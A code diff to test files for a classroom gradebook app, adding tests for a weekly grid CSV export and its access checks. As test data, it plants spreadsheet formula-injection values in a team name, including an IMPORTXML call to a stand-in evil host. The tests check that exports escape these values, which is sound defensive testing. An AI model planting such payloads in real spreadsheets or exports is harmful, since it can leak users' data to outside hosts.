@@ -2,11 +2,14 @@ import { parse } from 'csv-parse/sync';
 import { csvStream } from '@/lib/data/export/csv';
 import { exportGradebook, GRADEBOOK_COLUMNS } from '@/lib/data/export/gradebook';
 import { exportStudent, STUDENT_RECORDS } from '@/lib/data/export/student-record';
+import { exportWeekGrid, WEEK_GRID_COLUMNS } from '@/lib/data/export/week-grid';
+import { getLeagueWeek } from '@/lib/data/league-week/queries';
 import { setFormulaLevel } from '@/lib/data/student/commands';
 import { completeTask } from '@/lib/data/week/commands';
 import { fromMixed } from '@/lib/domain/fractions';
 import { STEP_KEYS, stepTitle } from '@/lib/domain/positions';
 import { timestampFromDate } from '@/lib/domain/timestamp';
+import { TASKS } from '@/lib/domain/week-tasks';
 import {
   allCollections,
   auditLog,
@@ -135,7 +138,7 @@ describe('the gradebook of a season', () => {
 
   it('runs nothing that stands in a name', async () => {
     await test.store.merge(studentProfiles, `${TEST_SEASON}_${test.kim.accountId}`, { teamName: '=IMPORTXML("//evil.example")' });
-    expect((await gradebook())[0]?.Team).toBe('\'=IMPORTXML("//evil.example")');
+    expect((await gradebook())[0]?.['Team name']).toBe('\'=IMPORTXML("//evil.example")');
   });
 
   it('of thirty students and eighteen weeks reads one student at a time', async () => {
@@ -174,6 +177,50 @@ describe('the gradebook of a season', () => {
     }
     await expect(exportGradebook(test.teacher, OTHER_LEAGUE)).rejects.toMatchObject({ code: 'not-found' });
     expect(new Set(GRADEBOOK_COLUMNS).size).toBe(GRADEBOOK_COLUMNS.length);
+  });
+});
+
+describe('the grid of a week', () => {
+  it('has what the page shows: state, tries and late marks of each step, the tasks and the points', async () => {
+    for (const answer of ['1', '2', '3']) await tryStep(test.kim, 'QB', answer);
+    await tryStep(test.kim, 'RB1', '1');
+    test.setNow(new Date('2023-10-20T01:05:00Z'));
+    await tryStep(test.kim, 'RB2', RIGHT_ANSWERS.RB2);
+    await completeTask(test.kim, { week: 6, task: 4 });
+    await addStudent(test, 'Ada');
+
+    const shown = await getLeagueWeek(test.teacher, LEAGUE, { week: 6, projector: false });
+    const { week, rows } = await exportWeekGrid(test.teacher, LEAGUE, 6);
+    const table: Record<string, string>[] = parse(await csvText(rows), { bom: true, columns: true });
+    expect(week).toBe(6);
+    expect(table.map(({ Student }) => Student)).toEqual(['Ada L.', 'Kim L.']);
+    for (const [index, row] of shown.rows.entries()) {
+      const line = table[index] ?? {};
+      expect([line.Student, line['Team name']]).toEqual([row.name, row.teamName ?? '']);
+      expect(STEP_KEYS.map((key) => Number(line[`${stepTitle(key)} tries`]))).toEqual(row.steps.map(({ attempts }) => attempts));
+      expect(STEP_KEYS.map((key) => line[`${stepTitle(key)} late`] === 'late')).toEqual(row.steps.map(({ late }) => late));
+      expect(TASKS.map(({ title }) => line[title])).toEqual(row.tasks);
+      expect([line['MVP points of the week'], line['MVP points of the season']]).toEqual([`${row.weekMvp}`, `${row.mvp}`]);
+    }
+    expect(table[1]).toMatchObject({
+      Quarterback: 'stuck',
+      'Running Back 1': 'trying',
+      'Running Back 2': 'right',
+      'Running Back 2 late': 'late',
+      'Wide Receiver 1': 'open',
+      Tries: '5',
+      Leaderboards: 'late',
+    });
+  });
+
+  it('runs nothing that stands in a name, and is the own teacher’s alone', async () => {
+    await test.store.merge(studentProfiles, `${TEST_SEASON}_${test.kim.accountId}`, { teamName: '@SUM(1)' });
+    const { rows } = await exportWeekGrid(test.teacher, LEAGUE, null);
+    expect(await csvText(rows)).toContain("'@SUM(1)");
+    expect(new Set(WEEK_GRID_COLUMNS).size).toBe(WEEK_GRID_COLUMNS.length);
+    for (const [, viewer, code] of test.refused()) {
+      await expect(exportWeekGrid(viewer, LEAGUE, 6)).rejects.toMatchObject({ code });
+    }
   });
 });
 
